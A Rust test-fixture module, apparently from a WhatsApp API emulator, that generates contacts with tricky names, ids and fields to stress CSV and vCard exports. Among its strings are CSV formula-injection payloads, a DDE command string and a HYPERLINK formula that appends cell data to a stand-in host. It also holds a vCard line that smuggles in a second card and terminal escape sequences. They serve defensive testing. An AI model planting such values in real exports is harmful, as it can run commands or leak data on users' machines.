//! Difficult people, for tests.

use serde_json::json;

use super::person::Person;

/// Returns people with one difficulty each, which breaks exports of contacts.
///
/// All ids differ, also from those of made-up people. Numbers have country code 999, which is not
/// assigned, unless the number is the difficulty.
///
/// # Examples
///
/// ```
/// let people = whapi_emulator::people::nasty();
/// assert!(people.iter().any(|p| p.name.as_deref() == Some("=1+1")));
/// assert!(people.iter().any(|p| p.id == "status@broadcast"));
/// ```
pub fn nasty() -> Vec<Person> {
    let mut people: Vec<Person> = names()
        .into_iter()
        .zip(1..)
        .map(|(name, index)| Person::new(number(index)).with_name(name).with_saved(true))
        .collect();
    people.extend(pushnames());
    people.extend(ids());
    people.extend(standings());
    people.extend(spellings());
    people.extend(phones());
    people.extend(phonebooks());
    people
}

/// Returns a number that made-up people do not have. 0 is the channel.
fn number(index: u32) -> String {
    format!("999{index:09}")
}

fn names() -> Vec<String> {
    let mut names: Vec<String> = TEXTS.iter().map(|&text| text.to_owned()).collect();
    // Lines are folded at 75 octets. Of these, some have a character of two, three or four octets
    // there, however a writer counts.
    for wide in ["é", "語", "🦊"] {
        for fill in 60..=76 {
            names.push(format!("{}{wide}{wide}{wide}", "x".repeat(fill)));
        }
    }
    names.push("語".repeat(200));
    names.push("Long".repeat(1250));
    names
}

const TEXTS: [&str; 86] = [
    // Empty or invisible.
    "",
    "   ",
    "\u{a0}\u{2003}\u{3000}",
    "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}",
    "\u{2800}",
    "\u{3164}",
    "\t",
    // Emoji and marks.
    "🦊",
    "👩‍👩‍👧‍👦",
    "🏴󠁧󠁢󠁷󠁬󠁳󠁿",
    "👍🏿",
    "1️⃣",
    "e\u{301}cole",
    "Z\u{351}\u{36b}\u{343}a\u{334}\u{321}l\u{321}\u{35b}go\u{322}",
    "한\u{1112}\u{1161}\u{11ab}",
    "\u{301}starts with a mark",
    // Right to left.
    "שלום world",
    "\u{202e}txt.exe\u{202c}",
    "\u{2067}א\u{2069}",
    "\u{200f}123\u{200e}",
    "محمد (2)",
    // Special characters of CSV and vCard.
    "Comma, Anna",
    "\"Quoted\" Bob",
    "Semi;colon;Carl",
    "back\\slash",
    "ends with a backslash\\",
    "\\n is not a line",
    "single 'quote'",
    "a\"",
    "\"",
    "\"\"\"",
    ",",
    ";",
    "Colon: Cleo",
    // Line breaks.
    "line\nfeed",
    "carriage\rreturn",
    "both\r\nof them",
    "line\u{2028}separator",
    "paragraph\u{2029}separator",
    "next\u{85}line",
    "vertical\u{b}tab",
    "form\u{c}feed",
    "\nstarts with one",
    "ends with one\n",
    // Formulas.
    "=1+1",
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "|calc",
    "%0A",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "\u{a0}=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "\";=1+1;\"",
    // Lines of a vCard.
    "BEGIN:VCARD",
    "END:VCARD",
    "TEL:+1",
    "x\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:3.0\r\nFN:Injected",
    "X-ABLabel",
    "item1.TEL;TYPE=CELL:+1",
    // Control characters.
    "nul\0byte",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]8;;http://example.invalid\u{7}link\u{1b}]8;;\u{7}",
    "del\u{7f}",
    "c1\u{9b}31m",
    "bell\u{7}",
    "noncharacter\u{ffff}",
    "replacement\u{fffd}",
    // Text that programs convert.
    "null",
    "true",
    "NaN",
    "None",
    "1e5",
    "007",
    "+44 7700 900123",
];

/// Returns people with difficult pushnames, which are untrusted.
fn pushnames() -> Vec<Person> {
    let bare = Person::new(number(200)).with_saved(false);
    let discovered = |index, pushname: &str| {
        Person::new(number(index))
            .with_pushname(pushname)
            .with_saved(false)
    };
    vec![
        bare,
        discovered(201, "=1+1"),
        discovered(202, "   "),
        discovered(203, "x\r\nEND:VCARD"),
        discovered(204, "\u{1b}[2J"),
        Person::new(number(205))
            .with_name("  ")
            .with_pushname("Shown")
            .with_saved(true),
        Person::new(number(206))
            .with_name("Discovered, but named")
            .with_saved(false),
        Person::new(number(207))
            .with_name("With everything")
            .with_pushname("everything")
            .with_saved(true)
            .with_is_business(true)
            .with_status("line\nfeed, comma; semicolon")
            .with_profile_pic("https://pps.invalid/a,b;c.jpg?x=1&y=\"2\"")
            .with_profile_pic_full("https://pps.invalid/full.jpg"),
        Person::new(number(208)).with_saved(true),
    ]
}

fn ids() -> Vec<Person> {
    [
        "999000000300@s.whatsapp.net",
        "999000000301@c.us",
        "10000000000001@lid",
        "100000000000002@lid",
        "10000000000003:7@lid",
        "status@broadcast",
        "120363000000000001@g.us",
        "120363000000000002@newsletter",
        "1000000000000004",
        "100000000000000000005",
        "123",
        "9990",
        "+999000000302",
        "999 000 000 303",
        "000000000304",
        "٩٩٩٠٠٠٠٠٠٣٠٥",
        "=999000000306",
        "551187654321",
        "5215512345678",
        "619528001122",
    ]
    .into_iter()
    .map(|id| Person::new(id).with_pushname("odd id").with_saved(false))
    .collect()
}

/// Returns people with unusual `saved`, nulls or unknown fields.
///
/// Keys of raw rows are in alphabetical order: the feature `preserve_order` of `serde_json`, which
/// another crate may enable, then changes no bytes.
fn standings() -> Vec<Person> {
    vec![
        Person::new(number(400)).with_name("saved is missing"),
        Person::new(number(401)),
        Person::raw(json!({"id": number(402), "name": "saved is null", "saved": null})),
        Person::raw(json!({
            "id": number(403), "is_business": null, "name": null, "profile_pic": null,
            "profile_pic_full": null, "pushname": null, "saved": false, "status": null,
        })),
        Person::raw(json!({
            "id": number(404), "labels": [{"id": "1"}], "name": "unknown fields",
            "saved": true, "verified": {"deep": [[[]]]},
        })),
    ]
}

/// Returns people whose ids are not in the plain spelling, or of a kind that is new in 2026.
fn spellings() -> Vec<Person> {
    [
        "999000000307:5@s.whatsapp.net",
        "10000000000004:12@lid",
        "999000000308@S.WHATSAPP.NET",
        "10000000000005@LID",
        "+999 000 000 309",
        " 999000000310 ",
        "999000000311@hosted",
        "10000000000006@hosted.lid",
        "US.13491208655302741918",
        "US.ENT.13491208655302741919",
    ]
    .into_iter()
    .map(|id| Person::new(id).with_pushname("odd id").with_saved(false))
    .collect()
}

/// Returns people with the field `phone`: beside a LID, and in place of the id.
fn phones() -> Vec<Person> {
    let lid = |id: &str, phone: &str| {
        Person::new(id)
            .with_pushname("LID and phone")
            .with_phone(phone)
            .with_saved(false)
    };
    vec![
        lid("10000000000007@lid", "999000000320"),
        lid("10000000000008:3@lid", "+999000000321"),
        lid("10000000000009@lid", "999000000322@s.whatsapp.net"),
        // The LID once more, nothing, and no number.
        lid("10000000000010@lid", "10000000000010"),
        lid("10000000000011@lid", "10000000000011@lid"),
        lid("10000000000012@lid", ""),
        lid("10000000000013@lid", "=1+1"),
        Person::raw(json!({"phone": "999000000323", "pushname": "phone, no id", "saved": false})),
        Person::raw(json!({
            "id": null, "name": "phone, id is null", "phone": "+999000000324", "saved": true,
        })),
    ]
}

/// Returns people with `phonebook`, alone or in contradiction to `saved`, and with a username.
fn phonebooks() -> Vec<Person> {
    vec![
        Person::new(number(405))
            .with_name("saved, not in the phonebook")
            .with_saved(true)
            .with_phonebook(false),
        Person::new(number(406))
            .with_name("in the phonebook, not saved")
            .with_saved(false)
            .with_phonebook(true),
        Person::new(number(407))
            .with_name("phonebook alone")
            .with_phonebook(true),
        Person::new(number(408))
            .with_pushname("not in the phonebook")
            .with_phonebook(false),
        Person::raw(json!({
            "id": number(409), "name": "phonebook is null", "phonebook": null, "saved": true,
        })),
        Person::new(number(410))
            .with_pushname("username")
            .with_username("=cmd,\"x\"\n")
            .with_saved(false),
    ]
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::*;

    /// The plain spelling of the id; of a person without one, that of the phone number.
    fn identity(person: &Person) -> String {
        let ids = person.plain_ids();
        ids.map_or_else(|| person.id.clone(), |(id, _)| id.into_owned())
    }

    #[test]
    fn ids_all_differ() {
        let people = nasty();
        let ids: HashSet<_> = people.iter().map(identity).collect();
        assert_eq!(ids.len(), people.len());
        assert!(
            names().len() < 200,
            "names use the numbers of the pushnames"
        );
    }

    #[test]
    fn the_fields_agree_with_the_row() {
        for person in nasty() {
            let row: serde_json::Value = serde_json::from_str(&person.to_json()).unwrap();
            assert_eq!(row["id"].as_str().unwrap_or_default(), person.id);
            assert_eq!(row["phone"].as_str(), person.phone.as_deref());
            assert_eq!(row["name"].as_str(), person.name.as_deref());
            assert_eq!(row["saved"].as_bool(), person.saved);
            assert_eq!(row["phonebook"].as_bool(), person.phonebook);
        }
    }

    #[test]
    fn the_longest_name_has_5000_characters() {
        let longest = names().iter().map(|name| name.chars().count()).max();
        assert_eq!(longest, Some(5000));
    }
}
